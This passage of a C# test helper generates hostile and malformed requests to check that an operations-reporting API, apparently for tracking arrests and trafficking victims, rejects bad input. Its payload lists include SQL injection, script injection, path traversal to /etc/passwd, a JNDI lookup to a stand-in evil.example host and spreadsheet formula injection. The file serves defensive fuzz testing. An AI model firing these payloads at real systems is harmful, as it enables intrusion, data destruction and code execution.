using System.Globalization;
using System.Text;
using System.Text.Json;

namespace Liberterra.Web.Tests;

/// <summary>
/// The hostile request generator behind <see cref="HostileInputTests"/>: for a seed, a deterministic stream of
/// malformed or hostile requests (<see cref="Probe"/>s) to every endpoint, each naming its caller and whether the app
/// must refuse it. Every generated write is invalid by construction: a "poison" the API must refuse is added to anything
/// that might otherwise parse. The parts: this file (the returns API, and the probes themselves), .Endpoints (every other
/// route), .DataSets (data-set definitions, and returns for an operation with its own indicators) and .Raw (bytes for a
/// real socket, which only Kestrel parses).
/// </summary>
internal static partial class HostileRequests
{
    internal const string Drill = "/api/v1/operations/drill";
    internal const string Three = "/api/v1/operations/liberterra-iii";
    internal const string Admin = "admin";
    internal const string Spain = "nu-esp";
    internal const string France = "nu-fra";
    internal const string AnalystCaller = "analyst";
    internal const string Nobody = "anonymous";


    /// <summary>Stands in, in rendered JSON or CSV, for raw bytes that are not valid UTF-8.</summary>
    private const char InvalidBytesMarker = '\uE000';

    private static readonly string[] MetricFields =
    [
        "arrests", "arrestsTraffickingSmuggling", "victimsSafeguarded", "victimsMinors", "irregularMigrants", "investigationsOpened", "officersDeployed",
        "inspections", "flightsMonitored", "databaseChecks", "criminalGroupsDismantled", "forgedDocumentsSeized",
    ];

    private static readonly string[] CsvHeader =
    [
        "country", "date", "arrests", "arrestsTraffickingSmuggling", "victimsSafeguarded", "victimsMinors",
        "victimsByExploitation.sexual", "victimsByExploitation.forcedLabour", "victimsByExploitation.forcedCriminality",
        "victimsByExploitation.domesticServitude", "victimsByExploitation.organRemoval", "victimsByExploitation.other",
        "irregularMigrants", "investigationsOpened", "officersDeployed", "inspections", "flightsMonitored", "databaseChecks",
        "criminalGroupsDismantled", "forgedDocumentsSeized", "notes",
    ];

    private static readonly int NotesColumn = CsvHeader.Length - 1;
    private static readonly int DatabaseChecksColumn = Array.IndexOf(CsvHeader, "databaseChecks");

    private static readonly string[] HostileNumbers =
    [
        "1e400", "-1e400", "99999999999999999999", "2147483648", "-2147483649", "1000001", "-1", "-0.0", "1.5", "1.0", "0.1", "1e2", "1E0",
        "0x10", "01", "+1", ".5", "5.", "NaN", "Infinity", "-Infinity", "1_000", "\"5\"", "\"\"", "\"five\"", "true", "false", "[]", "[1]", "{}",
        "{\"value\":1}", "\"1e400\"", "-", "--1", "1-", "9".PadRight(400, '9'),
    ];

    private static readonly string[] HostileStrings =
    [
        "'; DROP TABLE Returns;--", "<script>alert(1)</script>", "ESP' OR '1'='1", "ESP\\\"; --", "\\u0000", "ESP\\u0000", "E\\u0000SP", "\\ud800",
        "\\udfff\\ud800", "../../etc/passwd", "%2e%2e%2f", "${jndi:ldap://evil.example/a}", "{{7*7}}", "\\\\", "\\/", "\\b\\f\\n\\r\\t",
        "\u202EPSE", "ＥＳＰ", "ÉSP", "E\u0301SP", "ES", "ESPA", "", " ", "null", "ESP\\n", "=cmd|' /C calc'!A0",
    ];

    private static readonly string[] HostileDates =
    [
        "\"2026-11-03T00:00:00Z\"", "\"03/11/2026\"", "\"2026-11-3\"", "\"2026-02-30\"", "\"+002026-11-03\"", "\" 2026-11-03\"", "\"2026-11-03 \"",
        "\"2026-11-03\\u0000\"", "\"all\"", "\"ALL\"", "\"0000-00-00\"", "\"9999-99-99\"", "\"-2026-11-03\"", "\"2026-W45\"", "\"\"", "\"yesterday\"",
        "20261103", "2026", "true", "[\"2026-11-03\"]", "{\"year\":2026}", "\"2026-11-03\\\"; DROP TABLE Returns;--\"",
    ];

    private static readonly string[] WrongTypes = ["123", "-1", "1.5", "true", "false", "[]", "[\"ESP\"]", "{}", "{\"code\":\"ESP\"}", "[null]"];

    private static readonly string[] UnknownFields =
    [
        "arest", "Arest", "victims", "__proto__", "constructor", "$type", "$id", "$ref", "$values", "country ", " country", "",
        "victimsByExploitation.sexual", "officers_deployed", "version", "operation", "id", "updatedAt", "illustrative",
    ];

    private static readonly byte[][] InvalidUtf8 =
    [
        [0xFF], [0xFE, 0xFF], [0xC0, 0xAF], [0xE0, 0x80, 0xAF], [0xED, 0xA0, 0x80], [0xF4, 0x90, 0x80, 0x80], [0x80], [0xC3], [0xE2, 0x82],
        [0xF0, 0x9F, 0x98], [0xF8, 0x88, 0x80, 0x80, 0x80], [0xC0, 0x80],
    ];

    private static readonly string[] WrongContentTypes =
    [
        "text/plain", "application/xml", "text/xml", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "application/json; charset=utf-16",
        "application/json; charset=iso-8859-1", "application/json; charset=\"utf-7\"", "application/problem+json", "application/json-patch+json",
        "application/octet-stream", "*/*", "application/*", "???", "application/json;;;", "json", "text/html", "image/png",
    ];

    private static readonly string[] HostileCodes =
    [
        "..", "%2e%2e", "%2E%2E%2F%2E%2E", "..%2f..%2fetc%2fpasswd", "%252e%252e", "drill%00", "drill%2f..%2fliberterra-iii", new string('a', 5000),
        "DRILL", "Drill", "drill%20", "liberterra-iii%20", "%3Cscript%3Ealert(1)%3C%2Fscript%3E", "';DROP%20TABLE%20Operations;--", "%ff%fe",
        "%c0%ae%c0%ae", "%e2%80%ae", "con", "nul", "~", "%25", "drill%3B", "-", "0", "%5C..%5C", "%09", "null", "undefined",
    ];

    private static readonly string[] HostileCountries =
    [
        "..", "%2e%2e", "ESP%2f..", "E", "ESPX", "%00", "ESP%00", "e", new string('E', 3000), "%3Cx%3E", "%C3%89SP", "ESP%20", "'%20OR%201=1--", "%ff",
    ];

    private static readonly string[] HostilePeriods =
    [
        "2026-13-45", "all%00", "..", "9999-99-99", "ALL", "-1", "2026-11-02%2f..", "0001-01-01", "9999-12-31", new string('9', 3000),
        "2026-11-02T00:00", "%ff", "2026-11-02%00", "%20all", "2026-11-2",
    ];

    internal static string Clip(string text, int length) => text.Length <= length ? text : text[..length] + "…";

    private static string Q(string text) => "\"" + text + "\"";

    // ---------------------------------------------------------------------------------------------------------------
    // The generator
    // ---------------------------------------------------------------------------------------------------------------

    /// <summary>
    /// The hand-picked probes first, then random ones from every generator until <paramref name="count"/> requests:
    /// writes to the API (single, JSON and CSV batches), API reads, admin routes, the audit log, the dashboard pages and
    /// exports, the sign-in form, health and the API documentation.
    /// </summary>
    internal static IEnumerable<Probe> Generate(Random random, int count, string formToken)
    {
        var emitted = 0;
        foreach (var probe in FixedBodies(random).Concat(HostileRoutes(random)).Concat(FixedPageProbes(formToken)).Concat(FixedDataSetProbes()))
        {
            emitted++;
            yield return probe;
        }

        for (; emitted < count; emitted++)
        {
            yield return random.Next(100) switch
            {
                < 20 => SingleReturn(random, emitted),
                < 29 => JsonBatch(random, emitted),
                < 38 => CsvBatch(random, emitted),
                < 50 => ApiRead(random),
                < 54 => AdminProbe(random),
                < 58 => DataSetProbe(random, emitted),
                < 62 => CustomReturnProbe(random, emitted),
                < 64 => CustomCsvProbe(random, emitted),
                < 67 => AuditProbe(random),
                < 84 => PageProbe(random),
                < 93 => SignInProbe(random, formToken),
                _ => HealthOrDocsProbe(random),
            };
        }
    }

    /// <summary>A return as a list of raw JSON members, so that duplicates, odd names and any raw value can be expressed.</summary>
    private static List<KeyValuePair<string, string>> BaseReturn(string country = "ESP", string date = "2026-11-03") =>
    [
        new("country", Q(country)),
        new("date", Q(date)),
        new("arrests", "5"),
        new("arrestsTraffickingSmuggling", "2"),
        new("victimsSafeguarded", "4"),
        new("victimsMinors", "1"),
        new("victimsByExploitation", """{"sexual":1,"forcedLabour":1}"""),
        new("irregularMigrants", "7"),
        new("investigationsOpened", "1"),
        new("officersDeployed", "20"),
        new("inspections", "30"),
        new("databaseChecks", "2000000"),
        new("notes", Q("routine")),
    ];

    private static void Set(List<KeyValuePair<string, string>> fields, string name, string raw)
    {
        var index = fields.FindIndex(f => f.Key == name);
        if (index < 0)
        {
            fields.Add(new(name, raw));
        }
        else
        {
            fields[index] = new(name, raw);
        }
    }

    private static string Render(List<KeyValuePair<string, string>> fields) =>
        "{" + string.Join(",", fields.Select(f => JsonSerializer.Serialize(f.Key) + ":" + f.Value)) + "}";

    /// <summary>UTF-8, with every <see cref="InvalidBytesMarker"/> swapped for the given bytes that are not valid UTF-8.</summary>
    private static byte[] Encode(string text, byte[]? invalid = null)
    {
        var bytes = Encoding.UTF8.GetBytes(text);
        if (invalid is null || !text.Contains(InvalidBytesMarker, StringComparison.Ordinal))
        {
            return bytes;
        }

        var marker = Encoding.UTF8.GetBytes(InvalidBytesMarker.ToString());
        var result = new List<byte>(bytes.Length);
        for (var i = 0; i < bytes.Length; i++)
        {
            if (i + marker.Length <= bytes.Length && bytes.AsSpan(i, marker.Length).SequenceEqual(marker))
            {
                result.AddRange(invalid);
                i += marker.Length - 1;
            }
            else
            {
                result.Add(bytes[i]);
            }
        }

        return [.. result];
    }

    private static T Pick<T>(Random random, IReadOnlyList<T> items) => items[random.Next(items.Count)];

    /// <summary>One hostile change to a return; <paramref name="Touches"/> names the fields it changes, which a poison must then leave alone.</summary>
    private sealed record Mutation(string Name, string[] Touches, Action<List<KeyValuePair<string, string>>> Apply, Func<string, string>? Text = null);

    /// <summary>Makes a request certainly invalid: a field the validator must refuse, or a refusal before validation (route, key, header).</summary>
    private sealed record Poison(string Name, string[] Touches, Action<ProbeDraft> Apply, bool RowLevel = true);

    private static Mutation RandomMutation(Random random)
    {
        var metric = Pick(random, MetricFields);
        var number = Pick(random, HostileNumbers);
        var text = Pick(random, HostileStrings);
        var date = Pick(random, HostileDates);
        var wrong = Pick(random, WrongTypes);
        var unknown = Pick(random, UnknownFields);
        var depth = random.Next(9, 400);
        var length = Pick(random, new[] { 3000, 20_000, 120_000 });
        var cut = random.NextDouble();
        var exploitation = Pick(random, new[] { "sexual", "forcedLabour", "forcedCriminality", "domesticServitude", "organRemoval", "other" });
        return random.Next(26) switch
        {
            0 => new($"metric {metric}={number}", [metric], f => Set(f, metric, number)),
            1 => new($"exploitation.{exploitation}={number}", ["victimsByExploitation"], f => Set(f, "victimsByExploitation", $"{{\"{exploitation}\":{number}}}")),
            2 => new($"country=\"{text}\"", ["country"], f => Set(f, "country", Q(text))),
            3 => new($"country type {wrong}", ["country"], f => Set(f, "country", wrong)),
            4 => new($"date={date}", ["date"], f => Set(f, "date", date)),
            5 => new($"notes type {wrong}", ["notes"], f => Set(f, "notes", wrong)),
            6 => new($"unknown field '{unknown}'", [], f => f.Add(new(unknown, "1"))),
            7 => new($"duplicate {metric}", [metric], f => f.Add(new(metric, "3"))),
            8 => new("duplicate country", ["country"], f => f.Add(new("country", Q("FRA")))),
            9 => new("duplicate date", ["date"], f => f.Add(new("date", Q("2026-11-04")))),
            10 => new("case-variant duplicate Arrests", ["arrests"], f => f.Add(new("Arrests", "3"))),
            11 => new($"nested {depth} deep in exploitation", ["victimsByExploitation"],
                f => Set(f, "victimsByExploitation", string.Concat(Enumerable.Repeat("{\"sexual\":", depth)) + "1" + new string('}', depth))),
            12 => new($"array {depth} deep in {metric}", [metric], f => Set(f, metric, new string('[', depth) + "1" + new string(']', depth))),
            13 => new("country null", ["country"], f => Set(f, "country", "null")),
            14 => new("exploitation null", ["victimsByExploitation"], f => Set(f, "victimsByExploitation", "null")),
            15 => new("exploitation array", ["victimsByExploitation"], f => Set(f, "victimsByExploitation", "[1,2,3]")),
            16 => new($"exploitation with {unknown}", ["victimsByExploitation"], f => Set(f, "victimsByExploitation", $"{{\"{unknown}\":1}}")),
            17 => new($"country {length} chars", ["country"], f => Set(f, "country", Q(new string('E', length)))),
            18 => new($"date {length} chars", ["date"], f => Set(f, "date", Q(new string('2', length)))),
            19 => new($"field name {length} chars", [], f => f.Add(new(new string('a', length), "1"))),
            20 => new("invalid UTF-8 in notes", ["notes"], f => Set(f, "notes", Q("bad " + InvalidBytesMarker + " bytes"))),
            21 => new("invalid UTF-8 in country", ["country"], f => Set(f, "country", Q("E" + InvalidBytesMarker + "P"))),
            22 => new("invalid UTF-8 in a field name", [], f => f.Add(new("arr" + InvalidBytesMarker + "ests", "1"))),
            // At least the opening brace: a return cut to nothing would leave a batch of "[]", a valid empty batch.
            23 => new($"truncated at {cut:P0}", [], _ => { }, json => json[..Math.Max(1, (int)(cut * (json.Length - 1)))]),
            24 => new("wrapped in an array", [], _ => { }, json => "[" + json + "]"),
            _ => Malformation(random.Next(12), random.Next()),
        };
    }

    private static Mutation Malformation(int kind, int position) => new($"malformed #{kind}", [], _ => { }, json => kind switch
    {
        0 => json.Replace('"', '\''),
        1 => json[..^1] + ",}",
        2 => json.Replace(":", " ", StringComparison.Ordinal),
        3 => "/* comment */" + json,
        4 => json + json,
        5 => json + " trailing",
        6 => json.Replace("\"country\"", "country", StringComparison.Ordinal),
        7 => json.Insert(json.Length / 2, "\u0001"),
        8 => json.Replace("routine", "rou\ttine\nwith raw control characters", StringComparison.Ordinal),
        9 => json.Insert(1 + (position % (json.Length - 1)), InvalidBytesMarker.ToString()),
        10 => "\uFEFF\uFEFF" + json,
        _ => RemoveStructural(json, position),
    });

    /// <summary>
    /// Drops one quote, brace, bracket, colon or comma, which always breaks the JSON. Dropping any character could mend
    /// a poison instead (a '-' from "-1", an 'n' from 2,001 notes characters) and make the request valid.
    /// </summary>
    private static string RemoveStructural(string json, int position)
    {
        var structural = Enumerable.Range(0, json.Length).Where(i => "\"{}[]:,".Contains(json[i], StringComparison.Ordinal)).ToList();
        return json.Remove(structural[position % structural.Count], 1);
    }

    private static readonly Poison[] FieldPoisons =
    [
        new("date after the window", ["date"], d => Set(d.Fields, "date", Q("2026-12-25"))),
        new("date before the window", ["date"], d => Set(d.Fields, "date", Q("2026-10-31"))),
        new("date 'all'", ["date"], d => Set(d.Fields, "date", Q("all"))),
        new("negative arrests", ["arrests"], d => Set(d.Fields, "arrests", "-1")),
        new("subtotal above total", ["arrests", "arrestsTraffickingSmuggling"], d =>
        {
            Set(d.Fields, "arrests", "5");
            Set(d.Fields, "arrestsTraffickingSmuggling", "9");
        }),
        new("minors above victims", ["victimsSafeguarded", "victimsMinors"], d =>
        {
            Set(d.Fields, "victimsSafeguarded", "4");
            Set(d.Fields, "victimsMinors", "9");
        }),
        new("exploitation above victims", ["victimsSafeguarded", "victimsByExploitation"], d =>
        {
            Set(d.Fields, "victimsSafeguarded", "4");
            Set(d.Fields, "victimsByExploitation", """{"sexual":3,"other":3}""");
        }),
        new("subtotal without its total", ["arrests", "arrestsTraffickingSmuggling"], d =>
        {
            d.Fields.RemoveAll(f => f.Key is "arrests" or "Arrests");
            Set(d.Fields, "arrestsTraffickingSmuggling", "1");
        }),
        new("non-participant country", ["country"], d => Set(d.Fields, "country", Q("DEU"))),
        new("unknown country", ["country"], d => Set(d.Fields, "country", Q("XXX"))),
        new("unknown field 'arest'", [], d => d.Fields.Add(new("arest", "1"))),
        new("above the maximum", ["irregularMigrants"], d => Set(d.Fields, "irregularMigrants", "1000001")),
        new("above databaseChecks' own maximum", ["databaseChecks"], d => Set(d.Fields, "databaseChecks", "100000001")),
        new("notes over 2000 characters", ["notes"], d => Set(d.Fields, "notes", Q(new string('n', 2001)))),
    ];

    private static readonly Poison[] RequestPoisons =
    [
        new("final operation", [], d => d.Path = d.Path.Replace(Drill, Three, StringComparison.Ordinal), RowLevel: false),
        new("unknown operation", [], d => d.Path = d.Path.Replace(Drill, "/api/v1/operations/no-such-op", StringComparison.Ordinal), RowLevel: false),
        new("no key", [], d => d.Caller = Nobody, RowLevel: false),
        new("revoked admin key", [], d => d.Caller = Revoked, RowLevel: false),
        new("forged key", [], d => d.Caller = Forged, RowLevel: false),
        new("malformed key", [], d => d.Caller = Malformed, RowLevel: false),
        new("enormous key", [], d => d.Caller = Enormous, RowLevel: false),
        new("dashboard session, no key", [], d => d.Caller = AdminSession, RowLevel: false),
        new("analyst key", [], d => d.Caller = AnalystCaller, RowLevel: false),
        new("another country's key", ["country"], d => d.Caller = France, RowLevel: false),
        new("text/plain", [], d => d.ContentType = "text/plain", RowLevel: false),
        new("bad Idempotency-Key", [], d => d.Headers.Add(new("Idempotency-Key", "has spaces in it")), RowLevel: false),
        new("Idempotency-Key too long", [], d => d.Headers.Add(new("Idempotency-Key", new string('k', 201))), RowLevel: false),
    ];

    private static readonly Poison[] SingleOnlyPoisons =
    [
        new("stale If-Match", [], d => d.Headers.Add(new("If-Match", "\"99\"")), RowLevel: false),
        new("malformed If-Match", [], d => d.Headers.Add(new("If-Match", "1")), RowLevel: false),
    ];

    private static Poison PoisonFor(Random random, Mutation mutation, IReadOnlyList<Poison> candidates)
    {
        var fitting = candidates.Where(p => !p.Touches.Intersect(mutation.Touches).Any()).ToList();
        return Pick(random, fitting);
    }

    private static Probe SingleReturn(Random random, int index)
    {
        var mutation = RandomMutation(random);
        var draft = new ProbeDraft($"{Drill}/returns", random.Next(4) == 0 ? Spain : Admin, BaseReturn());
        mutation.Apply(draft.Fields);
        var poison = PoisonFor(random, mutation, [.. FieldPoisons, .. RequestPoisons, .. SingleOnlyPoisons]);
        poison.Apply(draft);
        var text = Render(draft.Fields);
        text = mutation.Text?.Invoke(text) ?? text;
        return draft.ToProbe($"single #{index} {mutation.Name} + {poison.Name}", Encode(text, Pick(random, InvalidUtf8)), mustReject: true);
    }

    private static string ValidRow(Random random, string country, string date) =>
        Render(BaseReturn(country, date).Select(f => f.Key == "arrests" ? new KeyValuePair<string, string>("arrests", random.Next(5, 50).ToString(CultureInfo.InvariantCulture)) : f).ToList());

    private static (string Text, string Name) InvalidRow(Random random)
    {
        var mutation = RandomMutation(random);
        var draft = new ProbeDraft(Drill, Admin, BaseReturn(Pick(random, new[] { "ESP", "SEN" }), Pick(random, new[] { "2026-11-03", "2026-11-04", "2026-11-05" })));
        mutation.Apply(draft.Fields);
        var poison = PoisonFor(random, mutation, FieldPoisons);
        poison.Apply(draft);
        var text = Render(draft.Fields);
        return (mutation.Text?.Invoke(text) ?? text, $"{mutation.Name} + {poison.Name}");
    }

    private static readonly string[] BatchDays = ["2026-11-03", "2026-11-04", "2026-11-05"];

    /// <summary>How a generated batch is sent: all-or-nothing most often, then row by row, sometimes as a dry run.</summary>
    private static string BatchMode(Random random) => random.Next(10) switch
    {
        < 6 => "atomic",
        < 9 => "atomic=false",
        _ => "dryRun=true",
    };

    private static Probe JsonBatch(Random random, int index)
    {
        var mode = BatchMode(random);
        var rows = new List<string>();
        var names = new List<string>();
        var count = random.Next(1, 5);
        var invalidAt = random.Next(count);
        for (var i = 0; i < count; i++)
        {
            if (mode != "atomic=false" && i != invalidAt && random.Next(2) == 0)
            {
                rows.Add(ValidRow(random, "SEN", BatchDays[i % BatchDays.Length]));
                names.Add("valid");
            }
            else if (random.Next(8) == 0)
            {
                rows.Add(Pick(random, new[] { "null", "1", "\"row\"", "[]", "true", "[{}]" }));
                names.Add("not an object");
            }
            else
            {
                var (text, name) = InvalidRow(random);
                rows.Add(text);
                names.Add(name);
            }
        }

        var path = $"{Drill}/returns/batch" + mode switch
        {
            "atomic=false" => "?atomic=false",
            "dryRun=true" => Pick(random, new[] { "?dryRun=true", "?dryRun=true&atomic=false" }),
            _ => string.Empty,
        };
        var draft = new ProbeDraft(path, Admin);
        var label = $"json batch #{index} ({mode}) [{string.Join("; ", names)}]";
        if (random.Next(5) == 0)
        {
            var poison = Pick(random, RequestPoisons.Where(p => p.Touches.Length == 0).ToList());
            poison.Apply(draft);
            label += " + " + poison.Name;
        }

        var body = "[" + string.Join(",", rows) + "]";
        return draft.ToProbe(label, Encode(body, Pick(random, InvalidUtf8)), mustReject: mode == "atomic");
    }

    private static string CsvCell(string value) =>
        value.AsSpan().IndexOfAny(",\"\r\n") >= 0 ? "\"" + value.Replace("\"", "\"\"", StringComparison.Ordinal) + "\"" : value;

    private static string[] CsvValidCells(string country, string date) =>
        [country, date, "5", "2", "4", "1", "1", "1", "", "", "", "", "7", "1", "20", "30", "", "2000000", "", "3", "csv row"];

    private static (string Line, string Name) CsvInvalidRow(Random random)
    {
        var cells = CsvValidCells(Pick(random, new[] { "ESP", "SEN" }), Pick(random, new[] { "2026-11-03", "2026-11-04", "2026-11-05" }));
        var touched = new HashSet<int>();
        string name;
        var column = random.Next(2, NotesColumn);
        var hostileNumbers = new[] { "1e3", "5.0", "1,000", "٣", "0x10", "99999999999", "abc", "NaN", "-0", "+5", " 5 ", "5 5", "½", "1\u00A0000", "(5)" };
        var hostileCountry = new[] { "'; DROP TABLE Returns;--", "<script>alert(1)</script>", "ES", "ESPA", "E\u0000P", "ÉSP", "es p", "DEU" };
        var hostileDate = new[] { "2026-13-01", "03/11/2026", "2026-11-3", "all", "ALL", " 2026-11-03 ", "2026-11-03T00:00", "20261103" };
        switch (random.Next(7))
        {
            case 0:
                cells[column] = Pick(random, hostileNumbers);
                touched.Add(column);
                name = $"{CsvHeader[column]}={cells[column]}";
                break;
            case 1:
                cells[0] = Pick(random, hostileCountry);
                touched.Add(0);
                name = $"country={cells[0]}";
                break;
            case 2:
                cells[1] = Pick(random, hostileDate);
                touched.Add(1);
                name = $"date={cells[1]}";
                break;
            case 3:
                cells[NotesColumn] = Pick(random, new[] { "=cmd|' /C calc'!A0", "<script>alert(1)</script>", "'; DROP TABLE Returns;--", "@SUM(1+1)*cmd|' /C calc'!A0" });
                touched.Add(NotesColumn);
                name = "hostile notes";
                break;
            case 4:
                cells[NotesColumn] = "bad " + InvalidBytesMarker + " bytes";
                touched.Add(NotesColumn);
                name = "invalid UTF-8 notes";
                break;
            case 5:
                cells = cells[..random.Next(2, cells.Length)];
                name = "fewer fields";
                for (var i = cells.Length; i < CsvHeader.Length; i++)
                {
                    touched.Add(i);
                }

                break;
            default:
                name = "no hostile cell";
                break;
        }

        // The poison, on a column the hostile change left alone.
        var poisons = new List<(string Name, int[] Columns, Action<string[]> Apply)>
        {
            ("date after the window", [1], c => c[1] = "2026-12-25"),
            ("negative arrests", [2], c => c[2] = "-3"),
            ("subtotal above total", [2, 3], c => (c[2], c[3]) = ("2", "9")),
            ("non-participant", [0], c => c[0] = "DEU"),
            ("unknown country", [0], c => c[0] = "QQQ"),
            ("minors above victims", [4, 5], c => (c[4], c[5]) = ("1", "8")),
            ("notes too long", [NotesColumn], c => c[NotesColumn] = new string('n', 2001)),
            ("databaseChecks above its maximum", [DatabaseChecksColumn], c => c[DatabaseChecksColumn] = "100000001"),
        };
        var fitting = poisons.Where(p => !p.Columns.Any(touched.Contains) && p.Columns.All(c => c < cells.Length)).ToList();
        var line = string.Join(",", cells.Select(CsvCell));
        if (fitting.Count == 0 || random.Next(6) == 0)
        {
            return (line + ",extra,fields", name + " + extra fields");
        }

        var chosen = Pick(random, fitting);
        chosen.Apply(cells);
        return (string.Join(",", cells.Select(CsvCell)), name + " + " + chosen.Name);
    }

    private static Probe CsvBatch(Random random, int index)
    {
        var header = string.Join(",", CsvHeader);
        var mode = BatchMode(random);
        var lines = new List<string>();
        var names = new List<string>();
        var count = random.Next(1, 5);
        var invalidAt = random.Next(count);
        for (var i = 0; i < count; i++)
        {
            if (mode != "atomic=false" && i != invalidAt && random.Next(2) == 0)
            {
                lines.Add(string.Join(",", CsvValidCells("SEN", BatchDays[i % BatchDays.Length])));
                names.Add("valid");
            }
            else
            {
                var (line, name) = CsvInvalidRow(random);
                lines.Add(line);
                names.Add(name);
            }
        }

        var body = header + "\n" + string.Join("\n", lines) + "\n";
        var structural = random.Next(16);
        var label = $"csv batch #{index} ({mode}) [{string.Join("; ", names)}]";
        (body, label) = structural switch
        {
            0 => (body.Replace("\n", "\r\n", StringComparison.Ordinal), label + " CRLF"),
            1 => (body.Replace("\n", "\r", StringComparison.Ordinal), label + " CR only"),
            2 => (header + ",bogus\n" + string.Join("\n", lines), label + " unknown column"),
            3 => (header.Replace("country,", string.Empty, StringComparison.Ordinal) + "\n" + string.Join("\n", lines), label + " no country column"),
            4 => (header + ",arrests\n" + string.Join("\n", lines), label + " column named twice"),
            12 => (header + ",victimsByExploitation\n" + string.Join("\n", lines), label + " a breakdown as a column"),
            13 => (header + ",arrests.x\n" + string.Join("\n", lines), label + " an option of a number as a column"),
            5 => (body.Replace(",", ";", StringComparison.Ordinal), label + " semicolons"),
            6 => (body.Replace(",", "\t", StringComparison.Ordinal), label + " tabs"),
            7 => (body + "ESP,\"2026-11-03,5\n", label + " unclosed quote"),
            8 => (body + "\"ESP\"x,2026-11-03,5\n", label + " junk after a quote"),
            9 => ("\uFEFF" + body, label + " byte-order mark"),
            10 => (body.Insert(random.Next(body.Length), "\u0000"), label + " NUL"),
            _ => (body, label),
        };
        var path = $"{Drill}/returns/batch" + mode switch
        {
            "atomic=false" => "?atomic=false",
            "dryRun=true" => "?dryRun=true",
            _ => string.Empty,
        };
        var draft = new ProbeDraft(path, Admin) { ContentType = "text/csv" };
        if (random.Next(6) == 0)
        {
            var poison = Pick(random, RequestPoisons.Where(p => p.Touches.Length == 0 && p.Name != "text/plain").ToList());
            poison.Apply(draft);
            label += " + " + poison.Name;
        }

        // A batch whose structure broke is refused as a whole; otherwise an atomic batch holds an invalid row.
        return draft.ToProbe(label, Encode(body, Pick(random, InvalidUtf8)), mustReject: mode == "atomic");
    }

    /// <summary>Hand-picked bodies that the random mix would rarely produce.</summary>
    private static IEnumerable<Probe> FixedBodies(Random random)
    {
        var poisoned = Render(BaseReturn(date: "2026-12-25"));
        foreach (var contentType in WrongContentTypes)
        {
            yield return new ProbeDraft($"{Drill}/returns", Admin) { ContentType = contentType }.ToProbe($"content type {contentType}", Encode(poisoned), true);
            yield return new ProbeDraft($"{Drill}/returns/batch", Admin) { ContentType = contentType }.ToProbe($"batch content type {contentType}", Encode("[" + poisoned + "]"), true);
        }

        yield return new ProbeDraft($"{Drill}/returns", Admin) { ContentType = "APPLICATION/JSON" }.ToProbe("upper-case content type", Encode(poisoned), true);
        yield return new ProbeDraft($"{Drill}/returns", Admin) { ContentType = null }.ToProbe("no content type", Encode(poisoned), true);
        yield return new ProbeDraft($"{Drill}/returns/batch", Admin) { ContentType = null }.ToProbe("batch without content type", Encode("[" + poisoned + "]"), true);
        yield return new ProbeDraft($"{Drill}/returns/batch", Admin) { ContentType = "text/csv" }.ToProbe("JSON sent as CSV", Encode("[" + poisoned + "]"), true);
        yield return new ProbeDraft($"{Drill}/returns/batch", Admin).ToProbe("CSV sent as JSON", Encode("country,date\nESP,2026-12-25\n"), true);

        foreach (var text in new[] { string.Empty, " ", "\n", "null", "true", "0", "\"\"", "[]", "{}", "[[]]", "[{}]", "{\"\":null}", "\u0000", "\uFEFF" })
        {
            yield return new ProbeDraft($"{Drill}/returns", Admin).ToProbe($"single body '{text}'", Encode(text), true);
            yield return new ProbeDraft($"{Drill}/returns/batch", Admin).ToProbe($"batch body '{text}'", Encode(text), text is not ("[]"));
            yield return new ProbeDraft($"{Drill}/returns/batch", Admin) { ContentType = "text/csv" }.ToProbe($"csv body '{text}'", Encode(text), false);
        }

        for (var i = 0; i < 40; i++)
        {
            var garbage = new byte[random.Next(1, 400)];
            random.NextBytes(garbage);
            yield return new ProbeDraft($"{Drill}/returns", Admin).ToProbe($"random bytes #{i}", garbage, true);
            yield return new ProbeDraft($"{Drill}/returns/batch", Admin) { ContentType = i % 2 == 0 ? "text/csv" : "application/json" }
                .ToProbe($"batch random bytes #{i}", garbage, i % 2 == 1);
        }

        var deep = new string('[', 100_000) + new string(']', 100_000);
        yield return new ProbeDraft($"{Drill}/returns", Admin).ToProbe("100,000 nested arrays", Encode(deep), true);
        yield return new ProbeDraft($"{Drill}/returns/batch", Admin).ToProbe("batch of 100,000 nested arrays", Encode(deep), true);
        var deepObject = string.Concat(Enumerable.Repeat("{\"a\":", 50_000)) + "1" + new string('}', 50_000);
        yield return new ProbeDraft($"{Drill}/returns", Admin).ToProbe("50,000 nested objects", Encode(deepObject), true);
        yield return new ProbeDraft($"{Drill}/returns/batch", Admin).ToProbe("batch with 50,000 nested objects", Encode("[" + deepObject + "]"), true);

        yield return new ProbeDraft($"{Drill}/returns", Admin).ToProbe("notes of 300 KB (over the limit)",
            Encode(Render(BaseReturn(date: "2026-12-25").Select(f => f.Key == "notes" ? new KeyValuePair<string, string>("notes", Q(new string('x', 300_000))) : f).ToList())), true);
        yield return new ProbeDraft($"{Drill}/returns/batch", Admin).ToProbe("batch over 5 MB",
            Encode("[" + string.Join(",", Enumerable.Repeat(poisoned, (5 * 1024 * 1024 / poisoned.Length) + 10)) + "]"), true);
        yield return new ProbeDraft($"{Drill}/returns/batch", Admin).ToProbe("10,001 rows", Encode("[" + string.Join(",", Enumerable.Repeat("{}", 10_001)) + "]"), true);
        yield return new ProbeDraft($"{Drill}/returns/batch", Admin) { ContentType = "text/csv" }
            .ToProbe("10,001 CSV rows", Encode("country,date\n" + string.Concat(Enumerable.Repeat("ESP,2026-11-03\n", 10_001))), true);
        yield return new ProbeDraft($"{Drill}/returns/batch", Admin) { ContentType = "text/csv" }
            .ToProbe("one CSV line of 200 KB", Encode("country,date,notes\nESP,2026-12-25," + new string('a', 200_000) + "\n"), true);
        yield return new ProbeDraft($"{Drill}/returns/batch", Admin).ToProbe("the same return twice in one batch",
            Encode("[" + ValidRow(random, "SEN", "2026-11-04") + "," + ValidRow(random, "SEN", "2026-11-04") + "]"), true);
        yield return new ProbeDraft($"{Drill}/returns/batch", Spain).ToProbe("a national unit's batch with another country's row",
            Encode("[" + ValidRow(random, "ESP", "2026-11-04") + "," + ValidRow(random, "SEN", "2026-11-04") + "]"), true);
        yield return new ProbeDraft($"{Drill}/returns", Spain).ToProbe("whole-operation return beside daily ones",
            Encode(Render(BaseReturn().Select(f => f.Key == "date" ? new KeyValuePair<string, string>("date", "null") : f).ToList())), true);
        yield return new ProbeDraft($"{Drill}/returns", France).ToProbe("daily return beside a whole-operation one",
            Encode(Render(BaseReturn(country: "FRA"))), true);

